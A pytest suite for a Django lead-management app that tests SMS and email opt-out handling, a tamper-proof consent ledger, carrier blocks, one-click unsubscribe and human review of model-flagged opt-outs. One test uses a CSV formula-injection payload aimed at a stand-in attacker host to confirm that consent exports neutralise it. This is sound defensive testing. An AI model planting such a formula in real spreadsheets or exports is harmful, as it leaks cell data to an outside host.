"""Consent: one opt-out road, whatever the door; the ledger is evidence; nothing reaches a person who opted out."""

import csv
import io
import json

import pytest
from django.core import mail
from django.test import Client

from approvals.models import Action, Policy
from approvals.services import action_approve
from integrations import channels
from leads.models import ConsentRecord, Lead, Suppression
from leads.reactions import LEAD_OPTED_OUT
from leads.selectors import opt_out_confirmable
from leads.services import Evidence, consent_hold_set, consent_opt_out
from leads.unsubscribe import unsubscribe_token
from routing.models import Enrollment
from tests.conftest import policy_set, user, user_client
from tests.fakes.openai_server import FakeOpenAI, completion
from tests.integrations.twilio_helpers import PUBLIC, signed_post, sms_params, twilio_settings  # noqa: F401

pytestmark = pytest.mark.django_db
SMS = "/integrations/twilio/sms/"
STATUS = "/integrations/twilio/status/"
PHONE = "+15128670100"


@pytest.fixture
def text(demo, twilio_settings, django_capture_on_commit_callbacks):  # noqa: F811
    """Post a signed inbound SMS and run what it queues (the capture task, the pipeline, sends after commit)."""

    def _text(body: str, sid: str, sender: str = PHONE):
        with django_capture_on_commit_callbacks(execute=True):
            response = signed_post(Client(), SMS, sms_params(sid=sid, body=body, sender=sender))
        assert response.status_code == 200, response.content
        return response

    return _text


@pytest.fixture
def quoted(text):
    """A lead who asked for a quote and has a draft answer waiting for a person (draft mode)."""
    policy_set("first_response", mode=Policy.Mode.DRAFT)
    text("Hi, I need a roof quote in 30301, budget about $12k", sid="SM1")
    lead = Lead.objects.get(phone=PHONE)
    waiting = lead.actions.get(workflow="first_response")
    assert waiting.status == Action.Status.PENDING
    return lead, waiting


def confirmations(sms_outbox) -> list[str]:
    return [m["body"] for m in sms_outbox if "START" in m["body"]]


@pytest.mark.parametrize("words", ["REVOKE", "OPTOUT", "Stop. Thank you", "STOP!!!", "stop please", "ＳＴＯＰ"])
def test_a_keyword_in_any_dress_opts_out_cancels_the_waiting_draft_and_confirms_once(quoted, text, words, sms_outbox):
    lead, waiting = quoted
    text(words, sid="SM2")
    lead.refresh_from_db()
    waiting.refresh_from_db()
    assert lead.opted_out and waiting.status == Action.Status.CANCELLED
    record = lead.consent_records.get(kind=ConsentRecord.Kind.OPT_OUT)
    assert (record.channel, record.how, record.words, record.evidence_ref) == ("sms", "keyword", words, "SM2")
    # The queue no longer shows it, and a manager who had it open cannot send it.
    with pytest.raises(Exception, match="cancelled"):
        action_approve(action_id=waiting.pk, user=user("manager"))
    [confirmation] = sms_outbox
    assert "unsubscribed" in confirmation["body"] and "START" in confirmation["body"]
    assert lead.consent_records.filter(kind=ConsentRecord.Kind.CONFIRMATION).count() == 1


@pytest.mark.parametrize(
    "sentence", ["Please take me off your list", "don't text me again", "No more messages please", "no me escriban más"]
)
def test_a_plain_sentence_opts_out_and_is_kept_on_the_timeline_unanswered(quoted, text, sentence):
    lead, waiting = quoted
    text(sentence, sid="SM2")
    lead.refresh_from_db()
    assert lead.opted_out and lead.consent_records.get(kind="opt_out").how == ConsentRecord.How.SENTENCE
    assert lead.events.filter(message=sentence).exists(), "a sentence is the person's words: kept"
    assert not lead.actions.filter(status__in=["pending", "approved"]).exists()


@pytest.mark.parametrize(
    "message",
    [
        "can you stop by tomorrow to look at it?",
        "the leak won't stop, it's getting worse",
        "cancel my Tuesday appointment please, can we do Friday",
        "end of the month works for us",
        "Hola, tengo una fuga en el techo, pueden venir hoy?",
    ],
)
def test_no_false_opt_outs(demo, text, message):
    text(message, sid="SM9")
    lead = Lead.objects.get(phone=PHONE)
    assert not lead.opted_out and not lead.consent_hold
    assert not ConsentRecord.objects.exists() and not Suppression.objects.exists()
    assert lead.actions.exists(), "answered as any lead"


def test_a_models_opt_out_alone_holds_the_lead_for_a_person(
    demo, text, settings, sms_outbox, django_capture_on_commit_callbacks
):
    """The embedding provider once read a Spanish roof leak as an opt-out: a model's word never opts anyone out."""
    policy_set("first_response", mode=Policy.Mode.AUTO, min_confidence=0)
    answer = {"intent": "opt_out", "confidence": 0.9, "reasoning": "Looks like they do not want contact."}
    with FakeOpenAI() as server:
        settings.LLM_PROVIDER, settings.LLM_BASE_URL, settings.OPENAI_API_KEY = "openai", server.base_url, "sk-test"
        settings.LLM_MAX_RETRIES, settings.LLM_REWRITE_DRAFTS = 0, False
        server.handler = lambda body: (200, completion(json.dumps(answer)))
        text("Hola, tengo una fuga en el techo, pueden venir hoy?", sid="SM3")
    lead = Lead.objects.get(phone=PHONE)
    assert not lead.opted_out and "looks like an opt-out" in lead.consent_hold
    assert lead.stage != "unqualified", "a model's opt-out moves no stage"
    assert lead.qualification["intent"] != "opt_out" and lead.qualification["consent_review"]
    # Answered as the buyer the offline judge reads (a first response, or the question for a missing fact).
    draft = lead.actions.get(workflow__in=("first_response", "clarifying_question"))
    assert draft.status == Action.Status.PENDING and draft.escalation_reason.startswith("held: looks like an opt-out")
    assert sms_outbox == [] and lead.consent_records.get().kind == ConsentRecord.Kind.SUSPECTED
    # A person reads it: not an opt-out. The held draft can now be approved and goes.
    client = user_client("manager")
    assert client.post(f"/portal/leads/{lead.pk}/consent-hold/", {"decision": "dismiss"}).status_code == 302
    lead.refresh_from_db()
    assert lead.consent_hold == "" and lead.consent_records.last().kind == ConsentRecord.Kind.DISMISSED
    with django_capture_on_commit_callbacks(execute=True):
        action_approve(action_id=draft.pk, user=user("manager"))
    assert len(sms_outbox) == 1


def test_a_person_confirms_a_held_opt_out_and_it_takes_the_one_road(demo, capture):
    lead = Lead.objects.get(pk=capture(phone="+15128670201", message="Roof quote please").json()["lead"])
    consent_hold_set(lead_id=lead.pk, words="meh", why="the embedding model")
    response = user_client("manager").post(f"/portal/leads/{lead.pk}/consent-hold/", {"decision": "opt_out"})
    assert response.status_code == 302
    lead.refresh_from_db()
    assert lead.opted_out and lead.consent_hold == "", (
        "the phone opted out (the lead has no email); the hold is settled"
    )
    assert lead.consent_records.filter(kind="opt_out", how="person", actor__username="manager").exists()


def test_carrier_unsubscribed_opts_out_and_stops_cadences_unconfirmed(demo, capture, twilio_settings, sms_outbox):  # noqa: F811
    policy_set("first_response", mode=Policy.Mode.AUTO, min_confidence=0)
    lead = Lead.objects.get(pk=capture(phone="+15128670202", message="Roof quote please 30301").json()["lead"])
    sent = lead.messages.get(direction="out")
    quiet = Enrollment.objects.get(lead=lead, cadence__name="Gone quiet")
    assert quiet.status == Enrollment.Status.ACTIVE
    params = {"MessageSid": sent.provider_id, "MessageStatus": "undelivered", "ErrorCode": "21610", "To": sent.to}
    assert signed_post(Client(), STATUS, params).status_code == 204
    lead.refresh_from_db()
    quiet.refresh_from_db()
    assert lead.opted_out and quiet.status == Enrollment.Status.STOPPED
    record = lead.consent_records.get(kind="opt_out")
    assert record.how == ConsentRecord.How.CARRIER and "21610" in record.evidence_ref
    assert len(sms_outbox) == 1, "the first answer only: the carrier blocks the number, no confirmation"


def test_a_21610_for_a_message_we_do_not_know_still_opts_the_number_out(demo, twilio_settings):  # noqa: F811
    params = {"MessageSid": "SMunknown", "MessageStatus": "failed", "ErrorCode": "21610", "To": "+15128670203"}
    assert signed_post(Client(), STATUS, params).status_code == 204
    assert Suppression.objects.filter(channel="sms", address="+15128670203").exists()
    assert ConsentRecord.objects.get().lead is None
    with pytest.raises(channels.OptedOut):
        channels.send_sms(to="+15128670203", body="hello")


def test_a_duplicate_stop_webhook_is_one_record_and_a_second_stop_no_second_confirmation(quoted, text, sms_outbox):
    text("STOP", sid="SM5")
    text("STOP", sid="SM5")  # Twilio retried the same delivery
    assert ConsentRecord.objects.filter(kind="opt_out").count() == 1
    text("STOP", sid="SM6")  # a second, distinct STOP: evidence, but no second confirmation
    assert ConsentRecord.objects.filter(kind="opt_out").count() == 2
    assert len(confirmations(sms_outbox)) == 1


def test_start_from_a_number_never_opted_out_is_recorded_and_changes_nothing(text):
    text("START", sid="SM7")
    record = ConsentRecord.objects.get()
    assert (record.kind, record.how, record.phone) == ("opt_in", "keyword", PHONE)
    assert not Suppression.objects.exists()


def test_start_opts_back_in_with_a_record(quoted, text):
    text("STOP", sid="SM1b")
    text("UNSTOP", sid="SM2")
    assert list(ConsentRecord.objects.values_list("kind", flat=True)) == ["opt_out", "confirmation", "re_opt_in"]
    assert channels.send_sms(to=PHONE, body="Welcome back").provider_id


def test_the_ledger_is_never_updated_or_deleted(quoted, text):
    text("STOP", sid="SM1b")
    record = ConsentRecord.objects.filter(kind="opt_out").get()
    record.words = "edited"
    with pytest.raises(PermissionError):
        record.save()
    with pytest.raises(PermissionError):
        record.delete()
    with pytest.raises(PermissionError):
        ConsentRecord.objects.update(words="x")
    with pytest.raises(PermissionError):
        ConsentRecord.objects.all().delete()
    assert ConsentRecord.objects.get(pk=record.pk).words == "STOP"


def test_the_confirmation_goes_only_within_five_minutes(quoted, text, sms_outbox):
    from datetime import timedelta

    from django.utils import timezone

    text("STOP", sid="SM1b")
    record = ConsentRecord.objects.get(kind="opt_out")
    assert not opt_out_confirmable(record.pk, PHONE), "confirmed already"
    later = timezone.now() + timedelta(minutes=6)
    assert not opt_out_confirmable(record.pk, PHONE, now=later)


def test_the_opt_out_and_every_cancellation_are_one_transaction(quoted):
    """A failure after the cancellations rolls back the record, the suppression and the cancellations together."""
    lead, waiting = quoted

    def broken(**kwargs):
        raise RuntimeError("a receiver failed")

    LEAD_OPTED_OUT.connect(broken, app="routing")
    try:
        with pytest.raises(RuntimeError):
            consent_opt_out(channel="sms", how="person", lead=lead, evidence=Evidence(words="stop"))
    finally:
        LEAD_OPTED_OUT._receivers.remove(("routing", broken))
    waiting.refresh_from_db()
    lead.refresh_from_db()
    assert waiting.status == Action.Status.PENDING and not lead.opted_out
    assert not ConsentRecord.objects.exists() and not Suppression.objects.exists()
    # Nothing half done is left in the way: the same opt-out, with every receiver well, goes through whole.
    consent_opt_out(channel="sms", how="person", lead=lead, evidence=Evidence(words="stop"))
    waiting.refresh_from_db()
    assert waiting.status == Action.Status.CANCELLED and ConsentRecord.objects.filter(kind="opt_out").count() == 1


def test_do_not_contact_on_the_lead_page_stops_every_channel_and_the_ledger_exports_inert(demo, capture):
    policy_set("first_response", mode=Policy.Mode.DRAFT)
    body = {"phone": "+15128670204", "email": "dana@example.com", "message": "Roof quote"}
    lead = Lead.objects.get(pk=capture(**body).json()["lead"])
    client = user_client("manager")
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click for your quote")'
    assert client.post(f"/portal/leads/{lead.pk}/do-not-contact/", {"reason": hostile}).status_code == 302
    lead.refresh_from_db()
    assert lead.opted_out and lead.email_opted_out
    assert not lead.actions.filter(status__in=["pending", "approved"]).exists()
    page = client.get(f"/portal/leads/{lead.pk}/").content.decode()
    assert "Do not contact" not in page and "Opt-out" in page and "(opted out of texts)" in page
    rows = list(csv.reader(io.StringIO(client.get(f"/portal/leads/{lead.pk}/consent.csv").content.decode())))
    assert rows[0][:4] == ["created_at", "kind", "channel", "how"]
    assert rows[1][6] == "'" + hostile, "a formula is written as text"
    with pytest.raises(channels.OptedOut):
        channels.send_email(to="dana@example.com", subject="hi", body="hi")


def test_the_api_records_an_opt_out_and_refuses_an_opt_in(demo, capture, api):
    lead_id = capture(phone="+15128670205", message="Roof").json()["lead"]
    response = api.patch(
        f"/api/v1/leads/{lead_id}/", {"opted_out": True, "reason": "asked on the phone"}, format="json"
    )
    assert response.status_code == 200 and response.json()["opted_out"] is True
    assert ConsentRecord.objects.get(kind="opt_out").how == ConsentRecord.How.API
    response = api.patch(f"/api/v1/leads/{lead_id}/", {"opted_out": False}, format="json")
    assert response.status_code == 400 and "opted_out" in response.json()


def test_a_form_and_the_api_keep_the_consent_the_person_gave_with_its_evidence(demo, api):
    disclosure = "By checking this box you agree to receive texts from Acme Roofing. Reply STOP to opt out."
    response = Client().post(
        "/capture/form/website-quote/",
        {
            "name": "Eve",
            "phone": "5128670206",
            "message": "Quote please",
            "consent": "on",
            "consent_text": disclosure,
            "consent_version": "2026-11",
            "page_url": "https://acme.example/quote",
        },
        headers={"User-Agent": "Mozilla/5.0 test"},
        REMOTE_ADDR="203.0.113.7",
    )
    assert response.status_code in (202, 303)
    record = ConsentRecord.objects.get()
    assert (record.kind, record.how, record.channel) == ("opt_in", "form", "sms")
    assert (record.words, record.disclosure_version, record.page_url) == (
        disclosure,
        "2026-11",
        "https://acme.example/quote",
    )
    assert (record.ip, record.user_agent) == ("203.0.113.7", "Mozilla/5.0 test") and record.evidence_event_id
    body = {
        "channel": "api",
        "source": "crm",
        "email": "finn@example.com",
        "consent": {"channel": "email", "text": "Send me offers", "version": "v3"},
    }
    assert api.post("/api/v1/events/", body, format="json").status_code == 202
    assert ConsentRecord.objects.filter(how="api", channel="email", disclosure_version="v3").exists()
    bad = {**body, "email": "gus@example.com", "consent": {"channel": "fax", "text": "x"}}
    response = api.post("/api/v1/events/", bad, format="json")
    assert response.status_code == 400 and "consent" in response.json()


def test_every_email_carries_one_click_unsubscribe_and_only_a_post_unsubscribes(demo, capture):
    policy_set("first_response", mode=Policy.Mode.AUTO, min_confidence=0)
    body = {"email": "hana@example.com", "message": "Roof quote please", "postal_code": "30301"}
    lead = Lead.objects.get(pk=capture(**body).json()["lead"])
    [sent] = mail.outbox
    assert sent.extra_headers["List-Unsubscribe-Post"] == "List-Unsubscribe=One-Click"
    url = sent.extra_headers["List-Unsubscribe"].strip("<>")
    path = url.removeprefix("http://localhost:8000")
    assert path.startswith("/unsubscribe/")
    page = Client().get(path)  # a link scanner, or a person's first click
    assert page.status_code == 200 and b"Unsubscribe hana@example.com?" in page.content
    assert not ConsentRecord.objects.exists(), "a GET unsubscribes no one"
    assert Client().post(path, {"List-Unsubscribe": "One-Click"}).status_code == 200
    lead.refresh_from_db()
    assert lead.email_opted_out and ConsentRecord.objects.get().how == ConsentRecord.How.UNSUBSCRIBE_LINK
    tampered = "/unsubscribe/" + unsubscribe_token(lead.pk, "other@example.com")[:-3] + "abc/"
    assert Client().post(tampered).status_code == 404
    assert ConsentRecord.objects.count() == 1


def test_a_consent_box_beside_an_unusable_number_keeps_the_lead_and_records_nothing(api):
    body = {
        "channel": "api",
        "source": "crm",
        "email": "priya@example.com",
        "phone": "07700 900123",  # not a number anyone can be texted at
        "consent": {"channel": "sms", "text": "Text me about my quote", "version": "v3"},
    }
    assert api.post("/api/v1/events/", body, format="json").status_code == 202
    lead = Lead.objects.get(email="priya@example.com")
    assert lead.contact_problems["phone"]["raw"] == "07700 900123"
    assert not ConsentRecord.objects.exists()


def test_a_consent_box_beside_a_new_number_does_not_lift_the_opt_out_of_the_number_the_lead_holds(api):
    first = {"channel": "api", "source": "crm", "name": "Dana Diaz", "email": "dana@example.com"}
    api.post("/api/v1/events/", {**first, "phone": "+15128670701"}, format="json")
    lead = Lead.objects.get(email="dana@example.com")
    consent_opt_out(channel="sms", how="keyword", lead=lead, evidence=Evidence(words="STOP"))
    again = {**first, "phone": "+15128670702", "consent": {"channel": "all", "text": "Contact me", "version": "v3"}}
    assert api.post("/api/v1/events/", again, format="json").status_code == 202
    lead.refresh_from_db()
    assert lead.phone == "+15128670701" and lead.opted_out, "the number that said STOP stays opted out"
    assert Suppression.objects.filter(channel="sms").exists()
    assert ConsentRecord.objects.filter(kind="opt_in", channel="email").exists(), "the email they gave is theirs"
